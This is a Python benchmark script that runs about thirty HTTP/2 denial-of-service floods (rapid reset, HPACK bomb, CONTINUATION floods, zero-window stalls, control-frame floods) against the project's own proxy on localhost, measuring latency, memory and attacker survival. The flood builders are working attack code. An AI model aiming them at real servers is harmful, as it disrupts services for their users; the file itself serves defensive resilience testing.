"""For scripts/bench: HTTP/2 floods beside an honest client. Each attack uses one connection at a time, 10 Mbit/s at most, and
comes again as soon as it is cut off. Told are the honest client's latency beside it, how long an attacker stays, and Tarry's memory."""

import multiprocessing
import select
import socket
import statistics
import struct
import time

RATE = 1_250_000  # bytes a second
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CALM = 11  # ENHANCE_YOUR_CALM


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value, index=False):
    """A field as a literal with a new name (RFC 7541 6.2), names and values below 127 bytes unless `index`."""
    def text(s):
        n = len(s)
        return (bytes([n]) if n < 127 else b"\x7f" + varint(n - 127)) + s
    return (b"\x40" if index else b"\x00") + text(name) + text(value)


def varint(n):
    out = b""
    while n >= 128:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def head(path=b"/slow", method=b"\x82", more=b""):
    return method + b"\x86" + literal(b":path", path) + literal(b":authority", b"flood.test") + more


def get(stream, path=b"/slow", more=b"", flags=END_HEADERS | END_STREAM):
    return frame(HEADERS, flags, stream, head(path, more=more))


class Ended(Exception):
    """Tarry has ended the connection, or said GOAWAY."""


class Attacker:
    """One connection. send() keeps to the rate and notices the end; reads nothing if told so."""

    def __init__(self, address, reads=True, settings=b"", small=False):
        host, _, port = address.rpartition(":")
        self.socket = socket.socket()
        if small:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.connect((host, int(port)))
        self.socket.setblocking(False)
        self.reads, self.buffer, self.said = reads, b"", None
        self.began = time.monotonic()
        self.sent = 0
        self.streams = iter(range(1, 1 << 31, 2))
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK))

    def stream(self):
        return next(self.streams)

    def send(self, data):
        self.sent += len(data)
        ahead = self.sent / RATE - (time.monotonic() - self.began)
        if ahead > 0:
            self.wait(ahead)
        while data:
            try:
                data = data[self.socket.send(data):]
            except BlockingIOError:
                self.wait(0.05, writing=True)
            except OSError:
                raise Ended from None

    def wait(self, seconds, writing=False):
        """Reads meanwhile, if it is one who reads."""
        end = time.monotonic() + seconds
        while True:
            left = end - time.monotonic()
            if left <= 0:
                break
            got, room, _ = select.select([self.socket] if self.reads else [], [self.socket] if writing else [], [], left)
            if got:
                self.read()
            if room:
                return
        if not self.reads and self.gone():
            raise Ended

    def gone(self):
        """Who does not read learns it from the kernel: the connection is no longer established."""
        return self.socket.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != 1

    def read(self):
        try:
            data = self.socket.recv(1 << 16)
        except OSError:
            raise Ended from None
        if not data:
            raise Ended
        self.buffer += data
        while len(self.buffer) >= 9:
            n = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + n:
                break
            if self.buffer[3] == GOAWAY:
                self.said = int.from_bytes(self.buffer[13:17], "big")
                raise Ended
            self.buffer = self.buffer[9 + n:]


def setting(what, value):
    return struct.pack(">HI", what, value)


def window(stream, n):
    return frame(WINDOW, 0, stream, struct.pack(">I", n))


def forever(make, **how):
    """An attack that sends make(attacker) again and again."""
    def attack(address):
        a = Attacker(address, **how)
        yield a
        while True:
            a.send(make(a))
    return attack


def once(make, then=lambda a: b"", pause=0.2, **how):
    """An attack that sends make(attacker) at first, and then(attacker) now and then."""
    def attack(address):
        a = Attacker(address, **how)
        yield a
        a.send(make(a))
        while True:
            a.wait(pause)
            a.send(then(a))
    return attack


def rapid_reset(a):
    s = a.stream()
    return get(s) + frame(RST, 0, s, struct.pack(">I", 8))


def made_reset(trigger):
    def make(a):
        s = a.stream()
        return get(s) + trigger(s)
    return make


def bomb(a):
    """One entry of 3,900 bytes in the table, then a reference to it, each of one byte, over and over."""
    s = a.stream()
    return frame(HEADERS, END_HEADERS | END_STREAM, s, head(more=literal(b"x", b"y" * 3900, index=True) + b"\xbe" * 8000))


def crumbs(a):
    s = a.stream()
    return frame(HEADERS, END_HEADERS | END_STREAM, s, head(more=literal(b"cookie", b"a=b", index=True) + b"\xbe" * 4000))


def headless(a):
    """A header block that never ends."""
    s = a.stream()
    a.send(frame(HEADERS, END_STREAM, s, head()))
    while True:
        a.send(frame(CONTINUATION, 0, s, literal(b"x", b"y" * 100)))


def headless_empty(a):
    s = a.stream()
    a.send(frame(HEADERS, END_STREAM, s, head()))
    while True:
        a.send(frame(CONTINUATION, 0, s) * 50)


def empty_data(a):
    s = a.stream()
    a.send(frame(HEADERS, END_HEADERS, s, head(method=b"\x83")))
    while True:
        a.send(frame(DATA, 0, s) * 100)


def big_ones(n):
    return lambda a: b"".join(get(a.stream(), b"/big") for _ in range(n))


def open_windows(a):
    return window(0, 1 << 30) + b"".join(get(s, b"/big") + window(s, 1 << 30) for s in (a.stream() for _ in range(50)))


ATTACKS = {
    "A01 rapid reset": forever(rapid_reset),
    "A02 window update of 0": forever(made_reset(lambda s: window(s, 0))),
    "A02 window overflow": forever(made_reset(lambda s: window(s, (1 << 31) - 1))),
    "A02 depends on itself": forever(made_reset(lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 1)))),
    "A02 PRIORITY of 4 bytes": forever(made_reset(lambda s: frame(PRIORITY, 0, s, b"\0\0\0\0"))),
    "A02 HEADERS on half-closed": forever(made_reset(lambda s: get(s))),
    "A02 DATA on half-closed": forever(made_reset(lambda s: frame(DATA, 0, s, b"x"))),
    "A03 CONTINUATION without end": forever(headless),
    "A03 empty CONTINUATION": forever(headless_empty),
    "A04 HPACK bomb": forever(bomb),
    "A04 table resized": forever(lambda a: frame(HEADERS, END_HEADERS | END_STREAM, a.stream(), b"\x20\x3f\xe1\x1f" + head())),
    "A05 crumbs, window 0": forever(crumbs, settings=setting(4, 0)),
    "A06 window 0": once(big_ones(50), settings=setting(4, 0)),
    "A06 windows of a byte": once(big_ones(50), lambda a: b"".join(window(s, 1) for s in range(1, 100, 2)), 0.05, settings=setting(4, 0)),
    "A06 toggled window": once(big_ones(50), lambda a: frame(SETTINGS, 0, 0, setting(4, 1)) + frame(SETTINGS, 0, 0, setting(4, 0)), 0.01,
                               settings=setting(4, 0)),
    # Half of the workers' slots: the honest client never waits for one.
    "A06 windows of a byte, eight": once(big_ones(8), lambda a: b"".join(window(s, 1) for s in range(1, 16, 2)), 0.05, settings=setting(4, 0)),
    "A06 toggled window, eight": once(big_ones(8), lambda a: window(0, 1 << 24) + frame(SETTINGS, 0, 0, setting(4, 1 << 20)) + frame(SETTINGS, 0, 0, setting(4, 0)),
                                      0.01, settings=setting(4, 0)),
    "A07 closed TCP window": once(open_windows, reads=False, small=True),
    "A08 PING": forever(lambda a: frame(PING, 0, 0, b"12345678") * 100),
    "A08 PING, unread": forever(lambda a: frame(PING, 0, 0, b"12345678") * 100, reads=False),
    "A08 SETTINGS": forever(lambda a: frame(SETTINGS, 0, 0, setting(4, 65535)) * 100),
    "A08 PRIORITY": forever(lambda a: frame(PRIORITY, 0, a.stream(), b"\0\0\0\0\1") * 100),
    "A08 empty DATA": forever(empty_data),
    "A08 WINDOW_UPDATE": forever(lambda a: window(0, 1) * 100),
    "A09 invalid, unread": forever(made_reset(lambda s: window(s, (1 << 31) - 1)), reads=False),
    "A10 too many streams": forever(lambda a: get(a.stream()) * 1),
    "A10 last id first": once(lambda a: get((1 << 31) - 1), lambda a: get(1) + get(3)),
    "A10 GOAWAY, then more": once(lambda a: frame(GOAWAY, 0, 0, b"\0" * 8), lambda a: get(a.stream()), 0.001),
    "A11 garbage after the end": once(lambda a: frame(DATA, 0, 0, b"x"), lambda a: frame(99, 255, 7, b"x" * 100) * 10, 0.001, reads=False),
    "A12 reset in the response": forever(lambda a: (lambda s: get(s, b"/big") + frame(PING, 0, 0, b"abcdefgh") + frame(RST, 0, s, b"\0\0\0\x08"))(a.stream())),
    "A12 reset in the head": forever(lambda a: (lambda s: frame(HEADERS, END_STREAM, s, head()) + frame(RST, 0, s, b"\0\0\0\x08"))(a.stream())),
}


def attack_for(name, address, seconds, results):
    """In a process of its own: comes again and again; tells how long each connection was let be."""
    end, stays, calm, connections = time.monotonic() + seconds, [], 0, 0
    while time.monotonic() < end:
        began, a = time.monotonic(), None
        try:
            steps = ATTACKS[name](address)
            a = next(steps)
            connections += 1

            class Watch:
                """Ends the attack with the time."""
                send = a.send

            def send(data, plain=a.send):
                if time.monotonic() > end:
                    raise TimeoutError
                plain(data)
            a.send = send
            for _ in steps:
                pass
        except Ended:
            stays.append(time.monotonic() - began)
            calm += bool(a) and a.said == CALM
        except (TimeoutError, OSError):
            if time.monotonic() > end and a:
                stays.append(time.monotonic() - began)
            else:
                time.sleep(0.05)
        if a:
            a.socket.close()
        time.sleep(0.1)  # the floods are of frames, not of connections
    results.send({"connections": connections, "longest": round(max(stays, default=0), 2), "calm": calm})


def honest(address, seconds, alive=lambda: True):
    """Latencies of a client with one connection and one request at a time, in ms."""
    host, _, port = address.rpartition(":")
    request = b"GET /plain HTTP/1.1\r\nHost: honest.test\r\n\r\n"
    taken, wrong = [], 0
    s = socket.create_connection((host, int(port)), 10)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        began = time.monotonic()
        s.sendall(request)
        got = b""
        while b"costs the proxy" not in got:
            piece = s.recv(65536)
            if not piece:
                wrong += 1
                s = socket.create_connection((host, int(port)), 10)
                break
            got += piece
        taken.append((time.monotonic() - began) * 1000)
        alive()
        time.sleep(0.002)
    s.close()
    return taken, wrong


def p99(taken):
    return statistics.quantiles(taken, n=100)[98]


CONF = """
listen "{listen}" {{ }}
admin "{admin}" {{ }}
log {{ level = "error" }}
workers "app" {{ server "{server}" {{ slots = 16 }} }}
route "/" {{ workers = "app" }}
"""


def measure(bench, build, seconds):
    """Each attack for `seconds` beside an honest client; before each, the honest client alone for a third of that."""
    rows, good = {}, True
    for name in ATTACKS:
        with bench.Stage(build) as stage:
            server = stage.backend("127.0.0.1:0")
            listen, admin = (f"127.0.0.1:{bench.free_port()}" for _ in range(2))
            conf = stage.file("flood.conf", CONF.format(listen=listen, admin=admin, server=server))
            process, _ = stage.start("tarry", [stage.program("proxy/tarry"), "-c", conf], r"^tarry: ready")
            pids = bench.family(process.pid)
            honest(listen, 0.5)
            usual = p99(honest(listen, max(seconds / 3, 2))[0])
            before, most = bench.private_kib(pids), 0
            here, there = multiprocessing.Pipe()
            attacker = multiprocessing.Process(target=attack_for, args=(name, listen, seconds, there), daemon=True)
            attacker.start()
            bench.progress(name)
            looked = [0.0]

            def look():
                nonlocal most
                if time.monotonic() - looked[0] > 0.25:
                    looked[0] = time.monotonic()
                    most = max(most, bench.private_kib(pids))
            taken, wrong = honest(listen, seconds, look)
            attacker.join(20)
            told = here.recv() if here.poll(1) else {"connections": 0, "longest": seconds, "calm": 0}
            attacker.kill()
            end = time.monotonic() + 10
            while bench.exchanges(admin) and time.monotonic() < end:
                time.sleep(0.1)
            told.update(usual_p99_ms=round(usual, 2), p99_ms=round(p99(taken), 2), wrong=wrong, left=bench.exchanges(admin),
                        grown_kib=most - before)
            rows[name] = told
            good = good and not wrong and process.poll() is None
    bench.say(f"floods: each for {seconds:g} s beside an honest client of HTTP/1.1, 10 Mbit/s at most")
    bench.say("                                honest p99   usual     grown  connections  longest  told to calm down  left running")
    for name, row in rows.items():
        bench.say(f"  {name:29}{row['p99_ms']:8.2f} ms{row['usual_p99_ms']:8.2f}{row['grown_kib']:6} KiB{row['connections']:13}"
                  f"{row['longest']:7.1f} s{row['calm']:19}{row['left']:14}")
    bench.say()
    return {"seconds": seconds, "attacks": rows}, good
